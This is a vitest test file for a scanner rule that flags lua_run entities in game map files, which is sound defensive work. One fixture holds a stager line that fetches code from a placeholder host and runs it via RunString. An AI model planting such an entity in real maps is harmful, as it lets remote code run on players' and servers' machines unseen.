// Valid and invalid cases of the `map_luarun` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './map_luarun.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('map_luarun', () => {
  it('lua_run entity with a stager', () => {
    const findings = check(rule, {
      'maps/x.bsp':
        '{\n"classname" "lua_run"\n"Code" "http.Fetch(\'https://a.invalid\', RunString)"\n}',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('map without scripted entities', () => {
    const findings = check(rule, { 'maps/y.bsp': '{\n"classname" "info_player_start"\n}' });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
